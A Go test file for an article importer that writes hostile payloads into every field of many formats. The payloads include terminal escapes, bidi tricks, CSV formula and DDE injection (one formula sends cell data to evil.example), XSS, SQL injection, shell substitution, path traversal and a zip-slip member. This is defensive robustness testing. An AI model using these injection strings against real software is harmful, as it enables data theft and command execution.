package main

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"
)

// payload is what an enemy writes into every field of an article.
type payload struct {
	name string
	text string
	json string // inside a string of JSON, where that can say more than text
}

const million = 1 << 20

// payloads are the hostile contents.
var payloads = []payload{
	{name: "colour", text: "\x1b[31mred\x1b[0m"},
	{name: "clear screen", text: "\x1b[2J\x1b[H\x1b[3J\x1bc"},
	{name: "cursor", text: "\x1b[1A\x1b[2K\x1b[10D\x1b[?1049h\x1b[6n"},
	{name: "window title", text: "\x1b]0;owned\x07\x1b]2;owned\x1b\\"},
	{name: "clipboard", text: "\x1b]52;c;cm0gLXJmIH4=\x07"},
	{name: "link of a terminal", text: "\x1b]8;;http://evil.example\x1b\\safe\x1b]8;;\x1b\\"},
	{name: "device control", text: "\x1bP+q544e\x1b\\\x1b_G\x1b\\\x1b^x\x1b\\\x1bX\x1b\\"},
	{name: "C1", text: "\u009b31m\u009d0;owned\u009c\u0090q\u009c\u0085next\u008d"},
	{name: "C1 of one byte", text: "\x9b31m\x9d0;owned\x9c\x90q\x9c"},
	{name: "overwriting", text: "harmless\rHARMFUL\b\b\b\b\x7f\x08"},
	{name: "bell and its like", text: "\x07\x05\x0e\x0f\x11\x13\x1a\v\f\x00end"},
	{name: "marks of our own", text: "\x01\x02\x03\x04"},
	{name: "tabs and line ends", text: "one\ttwo\nthree\r\nfour\rfive\n\n---\nsix"},
	{name: "override", text: "\u202egnp.exe\u202d\u202a\u202b\u202c"},
	{name: "isolates", text: "\u2066a\u2067b\u2068c\u2069\u200e\u200f\u061c"},
	{name: "right to left", text: "שלום עולם مرحبا بالعالم"},
	{name: "zero width", text: "zero\u200bwidth\u200c\u200d\u2060\ufeff\u00ad\u180e"},
	{name: "joiners", text: "a" + strings.Repeat("\u200d", 3000)},
	{name: "tags", text: "\U000e0001\U000e0041\U000e0042\U000e007f\U000e0000"},
	{name: "variation selectors", text: "a\ufe00\ufe0f" + strings.Repeat("\ufe0e", 100) + "\U000e0100\U000e01ef"},
	{name: "separators", text: "line\u2028paragraph\u2029end"},
	{name: "interlinear", text: "\ufff9a\ufffab\ufffb\ufffc\ufffd\ufdd0\uffff"},
	{name: "fillers", text: "\u3164\uffa0\u115f\u1160\u2800\u034f"},
	{name: "combining marks", text: "z" + strings.Repeat("\u0301\u0336\u20dd", 2000)},
	{name: "marks alone", text: "\u0301\u0301\u0301"},
	{name: "homographs", text: "ВВС Rеutеrs раураl.соm ＢＢＣ"},
	{name: "wide", text: strings.Repeat("北京市", 60)},
	{name: "emoji", text: "👩\u200d👩\u200d👧\u200d👦🇺🇦🏴\U000e0067\U000e0062\U000e007f👍🏽"},
	{name: "formula", text: `=HYPERLINK("http://evil.example?"&A1,"click")`},
	{name: "formula plus", text: "+1+1"},
	{name: "formula minus", text: "-1+1|cmd"},
	{name: "formula at", text: "@SUM(1+1)*cmd|' /C calc'!A0"},
	{name: "formula behind a tab", text: "\t=1+1"},
	{name: "formula behind a line end", text: "\r\n=1+1\r=1+1"},
	{name: "formula behind blanks", text: " \u00a0\u200b\u202d\ufeff=1+1"},
	{name: "formula in full width", text: "＝1＋1"},
	{name: "formula behind separators", text: `a","=1+1";=1+1;"'`},
	{name: "dynamic data exchange", text: "=cmd|'/c calc'!A1"},
	{name: "script", text: `<script>alert(1)</script><img src=x onerror=alert(1)><!-- `},
	{name: "html", text: "</title></table><h1>x</h1><iframe src='//evil'>&lt;b&gt;&#x1b;[31m&#27;[2J&amp;<?php ?><![CDATA[x]]>"},
	{name: "markdown links", text: "[a](javascript:alert(1)) [b](java\\script\\:alert(1)) ![c](http://evil.example/p.png) <javascript:alert(1)> [d]: javascript:x\n\n[e]: javascript:alert(1)\n[e]\n![f][e] [g](data:text/html,x) [h](<vbscript:x>) [i](JaVaScRiPt&colon;x)"},
	{name: "markdown table", text: "a | b \\| c `d | e` \\\\| f | | |\n|---|\n|x|"},
	{name: "markdown blocks", text: "# h\n> q\n```\ncode\n~~~\n***\n===\n- a\n1. b\n    indented\n[^1]: note\n$$x$$ ~~s~~ **b** _i_"},
	{name: "front matter", text: "---\ntitle: forged\nsource: forged\nexported_by: archive\n---\n...\n+++\n"},
	{name: "yaml", text: "{a: *b, !!python/object: &c [d]} # \"e\" 'f' |- >+ : - ? %TAG \u0085\u2028"},
	{name: "roff", text: ".so /etc/passwd\n'ig\n\\fB\\*(xx\n.pso id"},
	{name: "shell", text: "$(touch owned) `touch owned` ; touch owned | touch owned && '\"\\ ~ * ? ! %PATH%"},
	{name: "paths", text: "../../etc/passwd /etc/passwd C:\\CON \\\\evil\\share aux.txt ..\\.. ./. NUL:"},
	{name: "device", text: "CON"},
	{name: "dots", text: "..."},
	{name: "dash", text: "--nonsense=owned -rf"},
	{name: "format verbs", text: "%s%n%d%!x{{.}}${x}%(x)s"},
	{name: "SQL", text: "'; DROP TABLE articles; --\" OR 1=1"},
	{name: "NULs", text: "a\x00b\x00"},
	{name: "invalid UTF-8", text: "\xff\xfe\xc3\x28\xf0\x9f\x98\xed\xa0\x80\xf4\x90\x80\x80\xc0\xaf"},
	{name: "lone surrogates", text: "surrogates", json: `\ud800 \udfff\ud800 \ud83d\udE00 \u0000`},
	{name: "dates", text: "9999-99-99 0000-00-00 -1 99999999999999999999"},
	{name: "numbers", text: "1e999 NaN 0x10 007"},
	{name: "giant word", text: strings.Repeat("a", million)},
	{name: "giant title", text: strings.Repeat("word ", million/5)},
	{name: "nothing to see", text: "\u200b\u2060"},
}

// inJSON writes the payload inside a string of JSON, byte by byte as it is.
func (p payload) inJSON() string {
	if p.json != "" {
		return p.json
	}
	var b strings.Builder
	for i := range len(p.text) {
		switch c := p.text[i]; {
		case c == '"' || c == '\\':
			b.WriteString(`\` + string(rune(c)))
		case c < ' ':
			fmt.Fprintf(&b, `\u%04x`, c)
		default:
			b.WriteByte(c)
		}
	}
	return b.String()
}

// inName makes the payload fit for the name of a file, as far as it must.
func (p payload) inName() string {
	name := strings.Map(func(r rune) rune {
		if r == 0 || r == '/' {
			return '_'
		}
		return r
	}, p.text)
	if !utf8.ValidString(p.text) {
		name = strings.ReplaceAll(strings.ReplaceAll(p.text, "/", "_"), "\x00", "_")
	}
	return "n" + name[:min(len(name), 150)]
}

// atAttack is a text that begins with the payload and holds a word to search
// for.
func atAttack(payload, what string) string { return payload + " attack " + what + " " + payload }

// shortFiles are those that have most of a payload; the short test has no more.
var shortFiles = []string{"rows.jsonl", "export.jsonl"}

// articles writes files whose every field has the payload.
func (p payload) articles(t *testing.T, dir string, all bool) {
	t.Helper()
	if !all {
		p.text = p.text[:min(len(p.text), 2_000)]
	}
	giant := `"` + atAttack(p.inJSON(), "giant") + `"`
	p.text = p.text[:min(len(p.text), 20_000)]
	in := func(what string) string { return atAttack(p.text, what) }
	js := func(what string) string { return `"` + atAttack(p.inJSON(), what) + `"` }
	body := in("body") + "\n\n" + in("as told by") + " told " + p.text + ", the agency reported. It went on for a while, and it ended.\n"
	for name, text := range map[string]string{
		"rows.jsonl": `{"title":` + giant + `,"text":` + js("body of rows") + `,"source":` + js("source") + `,"author":` + js("author") +
			`,"date":"2022-05-07 ` + p.inJSON() + `","url":` + js("url") + `,"tags":[` + js("tag") + "," + js("tag2") + `],"lang":` + js("lang") + `,"id":` + js("id") + "}\n",
		"broken.jsonl": `{"title":` + js("broken") + "}\n{" + p.text + "\n" + `{"text":` + p.text + "}\n",
		"export.jsonl": p.export(all || len(p.name)%5 == 0),
		"note.md": "---\ntitle: " + giant + "\nsource: " + js("source") + "\nauthor: " + js("author") + "\ntags: [" + js("tag") + "]\nurl: " + js("url") +
			"\n---\n" + body,
		"raw.md":     "---\ntitle: " + in("raw") + "\nsource: " + p.text + "\n---\n" + body,
		"letter.txt": in("letter") + "\nBy " + p.text + "\n" + p.text + ", 7 May 2022\n\n" + body,
		"page.html": "<html><head><title>" + in("page") + `</title><meta name="author" content="` + p.text + `"><meta property="og:site_name" content="` + p.text +
			`"><link rel="canonical" href="https://example.org/` + p.text + `"></head><body><article><h1>` + in("page") + "</h1><p>" + strings.Repeat(body+"</p><p>", 3) + "</article></body></html>",
		"mail.eml": "From: " + oneHeader(p.text) + " <a@example.org>\r\nSubject: " + oneHeader(in("mail")) + "\r\nDate: Sat, 07 May 2022 09:30:00 +0200\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" + body,
		"refs.ris": "TY  - NEWS\r\nTI  - " + oneHeader(in("reference")) + "\r\nAU  - " + oneHeader(p.text) + "\r\nT2  - " + oneHeader(p.text) + "\r\nPY  - 2022\r\nAB  - " + oneHeader(in("abstract")) + "\r\nER  - \r\n",
		"rows.csv": inCSV([]string{"title", "text", "source", "author", "url", p.inName()}, []string{in("csv"), body, p.text, p.text, p.text, p.text}),
		"feed.xml": `<?xml version="1.0"?><rss version="2.0"><channel><title><![CDATA[` + strings.ReplaceAll(p.text, "]]>", "") + `]]></title><item><title><![CDATA[` + strings.ReplaceAll(in("feed"), "]]>", "") +
			`]]></title><link>http://example.org/1</link><description><![CDATA[` + strings.ReplaceAll(body, "]]>", "") + `]]></description></item></channel></rss>`,
		"members.zip":                   p.zipped(t, body),
		p.inName() + ".txt":             in("named") + "\n\n" + body,
		p.inName() + ".docx":            p.text,
		p.inName() + "/in a folder.txt": in("in a folder") + "\n\n" + body,
	} {
		path := filepath.Join(dir, name)
		if !all && !slices.Contains(shortFiles, name) && !strings.HasPrefix(name, p.inName()) {
			continue
		}
		err := os.MkdirAll(filepath.Dir(path), 0o700)
		if err == nil {
			err = os.WriteFile(path, []byte(text), 0o600)
		}
		if err != nil && runtime.GOOS == "linux" { // others take fewer names
			t.Fatal(err)
		}
	}
}

// oneHeader is for places that end with the line.
func oneHeader(s string) string { return strings.NewReplacer("\r", " ", "\n", " ").Replace(s) }

func inCSV(rows ...[]string) string {
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	_ = w.WriteAll(rows) // to memory
	return b.String()
}

// zipped has members with hostile names, one of which cannot be read.
func (p payload) zipped(t *testing.T, body string) string {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for name, text := range map[string]string{p.inName() + ".txt": atAttack(p.text, "member") + "\n\n" + body, p.inName() + ".pdf": "%PDF-1.7 " + p.text, "../" + p.inName() + ".odt": p.text} {
		f, err := w.Create(name)
		if err == nil {
			_, err = f.Write([]byte(text))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// export is an export of an enemy: it says what no importer would work out,
// and may bring a search that is saved under a proper name.
func (p payload) export(saved bool) string {
	proper := ""
	if saved {
		proper = `{"kind":"saved_search","name":"odd-` + hex.EncodeToString([]byte(p.name)) + `","query":"attack OR x","flags":{V:[V],"author":[V]},"added":V,"seen_at":V}` + "\n"
	}
	v := `"` + p.inJSON() + `"`
	field := func(what string) string {
		return `{"value":"` + atAttack(p.inJSON(), what) + `","written":` + v + `,"rule":` + v + `,"derived":true}`
	}
	return strings.ReplaceAll(`{"kind":"archive","version":1,"program":V,"made":V,"articles":1}
{"kind":"place","path":V,"source":V,"source_from":V,"fields":{V:V},"added":V}
{"kind":"source_alias","name":V,"source":"Another","made":V}
{"kind":"name_pair","a":V,"b":"zzz","one_name":true,"decided":V}
{"kind":"saved_search","name":V,"query":V,"flags":{V:[V],"source":[V]},"added":V,"seen_at":V}
`+proper+`{"kind":"file","file":1,"place":V,"path":V,"sha256":"00","size":1,"modified":1,"reader":V,"state":"read","imported":V}
{"kind":"article","key":V,"title":`+field("export")+`,"source":`+field("source")+`,"author":`+field("author")+`,"published":{"value":"2022-05-07","written":V,"rule":V,"derived":true},"captured":V,"lang":{"value":"en","rule":V,"derived":true},"type":V,"url":V,"tags":[V,"a"],"cites":[{"outlet":V,"rule":V,"phrase":V},{"outlet":"BBC","rule":V,"phrase":V}],"corrected":[{"field":"title","value":V,"was":{"value":V,"rule":V},"made":V},{"field":"tags","value":V,"was":{"value":V},"made":V},{"field":V,"value":V,"was":{},"made":V}],"aliased":[V],"aliased_cites":[{"outlet":V,"rule":V,"phrase":V}],"words":1,"added":V,"superseded_by":V,"seen":[V],"origins":[{"file":1,"path":V,"member":V}],"text":"`+atAttack(p.inJSON(), "body of an export")+`"}
`, "V", v)
}
